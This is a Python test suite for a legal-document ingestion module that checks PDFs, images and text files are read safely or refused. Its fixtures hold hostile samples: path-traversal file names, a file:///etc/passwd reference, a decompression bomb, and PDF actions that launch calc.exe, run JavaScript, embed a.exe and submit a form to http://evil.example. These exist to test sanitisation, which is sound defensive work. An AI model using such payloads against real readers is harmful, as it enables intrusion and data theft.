"""Sources: known by content, made safe and said so, or refused by one sentence that names the file."""

import random
import re
import zlib
from contextlib import suppress
from io import BytesIO

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name
from PIL import Image, ImageFile

from legal_recovery.kernel.errors import RecoveryError
from legal_recovery.plumbing.binding import model
from legal_recovery.plumbing.binding.sources import read_source
from tests.plumbing.binding import made

CATALOGUE = b"<< /Type /Catalog /Pages 2 0 R %s >>"


def refused(name, content):
    """Return the code of a refusal, which has to name the file without its folders."""
    with pytest.raises(RecoveryError) as refusal:
        read_source(name, content)
    assert f"“{name.rpartition('/')[2]}”" in str(refusal.value)
    assert "/" not in str(refusal.value)
    return refusal.value.code


def one_page(more=b"", content=b"0 0 50 50 re f", stream=b"", catalogue=b""):
    return made.by_hand(
        [
            CATALOGUE % catalogue,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 400] /Contents 4 0 R %s >>" % more,
            b"<< /Length %d %s >> stream\n%s\nendstream" % (len(content), stream, content),
        ]
    )


def test_a_pdf_keeps_its_pages_sizes_and_text():
    source = read_source("合同.pdf", made.written("净回收 one", "二"))
    assert [(page.width, page.height, page.has_text) for page in source.pages] == [(595, 842, True)] * 2
    assert made.text_of(source.pdf).split() == ["净回收", "one", "二"]
    assert source.removed == () and source.signatures == 0 and not source.repaired


def test_a_page_is_as_large_as_it_is_shown():
    content = made.written("x", crop=(50, 50, 350, 250), rotate=90, unit=2)
    assert [(page.width, page.height) for page in read_source("x.pdf", content).pages] == [(400, 600)]


@pytest.mark.parametrize(
    ("name", "kind", "mode"),
    [
        ("a.png", "PNG", "RGB"), ("a.png", "PNG", "RGBA"), ("a.png", "PNG", "P"), ("a.png", "PNG", "1"),
        ("a.png", "PNG", "LA"), ("a.png", "PNG", "I;16"), ("a.jpg", "JPEG", "RGB"), ("a.jpeg", "JPEG", "L"),
        ("a.jpg", "JPEG", "CMYK"), ("a.tif", "TIFF", "RGB"), ("a.tiff", "TIFF", "CMYK"), ("a.tif", "TIFF", "1"),
    ],
)  # fmt: skip
def test_a_picture_stands_on_a4_and_is_seen(name, kind, mode):
    source = read_source(name, made.picture(kind, mode))
    (page,) = source.pages
    assert (round(page.width), round(page.height), page.has_text) == (842, 595, False)
    if mode != "I;16":
        assert made.look(source.pdf).convert("L").getextrema() == (0, 255)


def test_a_jpeg_stays_the_bytes_that_it_was():
    content = made.picture("JPEG", quality=70)
    source = read_source("photo.jpg", content)
    assert content in source.pdf and source.original == content


def test_every_page_of_a_tiff_is_a_page():
    source = read_source("scan.tif", made.picture("TIFF", "1", frames=3))
    assert len(source.pages) == 3
    assert len({made.look(source.pdf, at).tobytes() for at in range(3)}) == 3


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030"])
def test_a_text_is_set_in_an_embedded_font(encoding):
    source = read_source("聊天记录.txt", "第一行\t净回收\r\n\fNext page".encode(encoding))
    assert [page.has_text for page in source.pages] == [True, True]
    assert made.text_of(source.pdf, 0).split() == ["第一行", "净回收"]


def test_a_long_line_is_broken_and_loses_nothing():
    text = "".join(chr(0x4E00 + n % 500) for n in range(3000)) + "word " * 500
    source = read_source("long.txt", text.encode())
    assert made.text_of(source.pdf).split() and "".join(made.text_of(source.pdf).split()) == text.replace(
        " ", ""
    )


def test_a_character_that_no_font_has_is_named():
    with pytest.raises(RecoveryError) as refusal:
        read_source("names.txt", "𠮷野家".encode())
    assert refusal.value.code == "binding.unprintable"
    assert "𠮷 (U+20BB7)" in str(refusal.value)


def test_only_the_last_part_of_a_name_is_used():
    content = made.written("x")
    for name in ("../../etc/x.pdf", "..\\..\\x.pdf", "/x.pdf", "C:\\a\\x.pdf", "x\u202e.pdf"):
        assert read_source(name, content).name == "x.pdf"
    assert read_source("../..", content).name == "file"


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("a.pdf", b"", "empty"),
        ("a.pdf", b"just text", "misnamed"),
        ("a.png", made.picture("JPEG"), "misnamed"),
        ("a.docx", b"%PDF-1.4", "misnamed"),
        ("a.html", b"<html><img src='file:///etc/passwd'>", "unknown_kind"),
        ("a.svg", b"<svg xmlns='http://www.w3.org/2000/svg'/>", "unknown_kind"),
        ("a.docx", b"PK\x03\x04" + bytes(50), "unknown_kind"),
        ("a.gif", made.picture("GIF"), "unknown_kind"),
        ("a.bin", bytes(range(256)), "unknown_kind"),
        ("../b/a.pdf", b"%PDF-1.7\nnothing\n%%EOF", "unreadable"),
        ("a.jpg", made.picture("JPEG", size=(900, 900))[:2000], "unreadable"),
        ("a.png", made.picture("PNG")[:200], "unreadable"),
        ("a.tif", b"II*\x00" + b"\xff" * 40, "unreadable"),
    ],
)
def test_what_cannot_be_bound_is_refused(name, content, code):
    assert refused(name, content) == f"binding.{code}"


def test_a_picture_that_is_cut_off_is_refused_where_weasyprint_takes_it_for_whole(monkeypatch):
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)
    assert refused("a.jpg", made.picture("JPEG", size=(900, 900))[:2000]) == "binding.unreadable"
    assert ImageFile.LOAD_TRUNCATED_IMAGES is True


def test_a_pdf_that_is_cut_off_anywhere_is_refused():
    content = made.written("one", "two", "three")
    for part in (0.3, 0.6, 0.9, 0.99):
        assert refused("a.pdf", content[: int(len(content) * part)]) == "binding.unreadable"


def test_a_pdf_with_a_wrong_table_of_contents_is_read_and_says_so():
    content = made.written("one", "two")
    at = content.rindex(b"startxref")
    source = read_source("a.pdf", content[:at] + b"startxref\n7\n%%EOF\n")
    assert source.repaired and len(source.pages) == 2


def test_a_password_is_asked_for():
    with pikepdf.open(BytesIO(made.written("x"))) as pdf:
        closed = made.saved(pdf, encryption=pikepdf.Encryption(owner="o", user="u"))
        restricted = made.saved(pdf, encryption=pikepdf.Encryption(owner="o", user=""))
    assert refused("a.pdf", closed) == "binding.encrypted"
    assert made.text_of(read_source("a.pdf", restricted).pdf) == "x"


@pytest.mark.parametrize(
    "tree",
    [
        [b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"],
        [b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"],
        [b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % number for number in range(3, 200)],
    ],
)
def test_pages_that_contain_themselves_are_refused(tree):
    assert refused("a.pdf", made.by_hand([CATALOGUE % b"", *tree])) == "binding.recursive"


def test_a_file_without_pages_is_refused():
    empty = made.by_hand([CATALOGUE % b"", b"<< /Type /Pages /Kids [] /Count 0 >>"])
    assert refused("a.pdf", empty) == "binding.no_pages"
    assert refused("a.pdf", made.by_hand([b"<< /Type /Catalog >>"])) == "binding.unreadable"


def test_more_pages_than_bytes_are_refused_before_they_are_walked():
    """Sixty floors of two branches each are more pages than there are atoms in a drop."""
    floors = [b"<< /Type /Pages /Kids [%d 0 R %d 0 R] /Count 2 >>" % (n, n) for n in range(3, 43)]
    leaf = b"<< /Type /Page /MediaBox [0 0 9 9] >>"
    assert refused("a.pdf", made.by_hand([CATALOGUE % b"", *floors, leaf])) == "binding.too_many_pages"


def test_ten_thousand_and_one_pages_are_refused():
    kids = b" ".join(b"3 0 R" for _ in range(model.MOST_PAGES + 1))
    pages = b"<< /Type /Pages /Kids [%s] /Count 10001 >>" % kids
    content = made.by_hand([CATALOGUE % b"", pages, b"<< /Type /Page /MediaBox [0 0 9 9] >>"])
    assert refused("a.pdf", content) == "binding.too_many_pages"


def test_a_form_that_one_program_can_show_is_refused():
    assert refused("a.pdf", one_page(catalogue=b"/AcroForm << /XFA (x) /Fields [] >>")) == "binding.xfa"


def test_a_file_that_unpacks_to_more_than_memory_is_refused():
    packed = zlib.compressobj(9)
    content = b"".join([*(packed.compress(b" " * 1_000_000) for _ in range(300)), packed.flush()])
    assert len(content) < 400_000
    assert refused("a.pdf", one_page(content=content, stream=b"/Filter /FlateDecode")) == (
        "binding.unpacks_too_large"
    )


def test_a_picture_of_hundreds_of_megapixels_is_refused_by_what_it_says_of_itself():
    small = bytearray(made.picture("PNG", size=(8, 8)))
    small[16:24] = (20_000).to_bytes(4) + (10_001).to_bytes(4)
    small[29:33] = zlib.crc32(bytes(small[12:29])).to_bytes(4)
    assert refused("a.png", bytes(small)) == "binding.picture_too_large"
    within = one_page(content=b"x", stream=b"/Type /XObject /Subtype /Image /Width 20000 /Height 10001")
    assert refused("a.pdf", within) == "binding.picture_too_large"


def test_what_acts_is_left_behind_and_said():
    content = one_page(
        more=b"/AA << /O << /S /JavaScript /JS (app.alert(1)) >> >> /Annots ["
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (calc.exe) >> >>"
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (file:///etc/passwd) >> >>"
        b"<< /Type /Annot /Subtype /Link /Rect [1 2 3 4] /A << /S /URI /URI (https://court.example/) >> >>"
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /SubmitForm /F (http://evil.example) >> >>"
        b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"
        b"<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] /Contents (secret note) >> ]",
        catalogue=b"/OpenAction << /S /JavaScript /JS (evil) >> /Names << /EmbeddedFiles << /Names [(a) "
        b"<< /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>] >> >>",
    )
    source = read_source("a.pdf", content)
    assert set(source.removed) == {
        "javascript", "launch", "submit", "files", "opening", "embedded", "media", "annotations"
    }  # fmt: skip
    everything = made.unpacked(source.pdf)
    for word in (b"JavaScript", b"evil", b"calc", b"passwd", b"Launch", b"RichMedia", b"secret", b"a.exe"):
        assert word not in everything
    assert source.pages[0].links == (model.Link((1, 2, 3, 4), None, "https://court.example/"),)


def test_what_a_form_field_shows_becomes_part_of_the_page():
    def fill(pdf):
        shown = pdf.make_stream(
            b"0 0 100 50 re f", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 100, 50]
        )
        field = Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T="a", Rect=[200, 400, 300, 450], F=4,
            AP=Dictionary(N=shown),
        )  # fmt: skip
        pdf.pages[0].Annots = Array([pdf.make_indirect(field)])
        pdf.Root.AcroForm = Dictionary(Fields=Array([pdf.pages[0].Annots[0]]))

    source = read_source("a.pdf", made.changed(made.written("x"), fill))
    assert source.removed == ()
    assert made.look(source.pdf).getpixel((250, 842 - 425)) == (0, 0, 0)
    assert b"/Widget" not in made.unpacked(source.pdf)


def test_links_and_bookmarks_inside_the_file_are_kept_by_place():
    def connect(pdf):
        target = Array([pdf.pages[1].obj, Name.Fit])
        pdf.pages[0].Annots = Array(
            [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 50, 50], Dest=target)]
        )
        with pdf.open_outline() as outline:
            chapter = pikepdf.OutlineItem("第一章", 0)
            chapter.children.append(pikepdf.OutlineItem("第一节", 1))
            outline.root.append(chapter)

    source = read_source("a.pdf", made.changed(made.written("one", "two"), connect))
    assert source.pages[0].links == (model.Link((0, 0, 50, 50), 1),)
    assert source.bookmarks == (model.Bookmark("第一章", 0, (model.Bookmark("第一节", 1),)),)


def test_a_signature_is_counted():
    def sign(pdf):
        value = pdf.make_indirect(Dictionary(Type=Name.Sig, ByteRange=[0, 1, 2, 3], Contents=b"\0" * 8))
        field = pdf.make_indirect(Dictionary(FT=Name.Sig, T="s", V=value))
        pdf.Root.AcroForm = Dictionary(Fields=Array([field]), SigFlags=3)

    content = made.changed(made.written("x"), sign)
    source = read_source("a.pdf", content)
    assert source.signatures == 1 and source.original == content


def test_a_page_does_not_carry_the_pictures_of_another():
    def share(pdf):
        shared = Dictionary(XObject=Dictionary())
        for number in range(2):
            shared.XObject[f"/I{number}"] = pdf.make_stream(
                b"secret%d" % number, Type=Name.XObject, Subtype=Name.Image, Width=7, Height=1,
                BitsPerComponent=8, ColorSpace=Name.DeviceGray,
            )  # fmt: skip
        shared = pdf.make_indirect(shared)
        for number, page in enumerate(pdf.pages):
            page.Resources = shared
            page.Contents = pdf.make_stream(b"q 99 0 0 99 0 0 cm /I%d Do Q" % number)

    source = read_source("a.pdf", made.changed(made.written("a", "b"), share))
    with pikepdf.open(BytesIO(source.pdf)) as pdf:
        assert [list(page.Resources.XObject.keys()) for page in pdf.pages] == [["/I0"], ["/I1"]]


def test_the_same_file_gives_the_same_bytes():
    content = made.written("净回收")
    assert read_source("a.pdf", content) == read_source("a.pdf", content)
    assert (
        read_source("a.tif", made.picture("TIFF", "1")).pdf
        == read_source("a.tif", made.picture("TIFF", "1")).pdf
    )


@pytest.mark.parametrize("seed", range(3))
def test_whatever_is_changed_in_a_file_it_is_read_or_refused(seed):
    """A hundred changes each: bytes anywhere, or a value that stands where another belongs."""
    draw = random.Random(seed)
    files = [
        one_page(b"/Annots [<< /Subtype /Link /Rect [1 2 3 4] >>]"),
        made.written("x"),
        made.picture("PNG"),
    ]
    tokens = [b"null", b"-1", b"99999999999", b"/X", b"()", b"[]", b"<<>>", b"1 0 R", b"3 0 R", b"true"]
    for _ in range(100):
        content = bytearray(draw.choice(files))
        for _ in range(draw.randrange(1, 5)):
            content[draw.randrange(len(content))] = draw.randrange(256)
        if content.startswith(b"%PDF") and draw.random() < 0.5:
            place = draw.choice(list(re.finditer(rb"\d+ 0 R|\d+|/\w+|\[[^\]]*\]", content)))
            content[place.start() : place.end()] = draw.choice(tokens)
        with suppress(RecoveryError):
            assert read_source("x", bytes(content)).pages


def test_the_guard_of_pillow_is_ours():
    assert Image.MAX_IMAGE_PIXELS == model.MOST_PIXELS
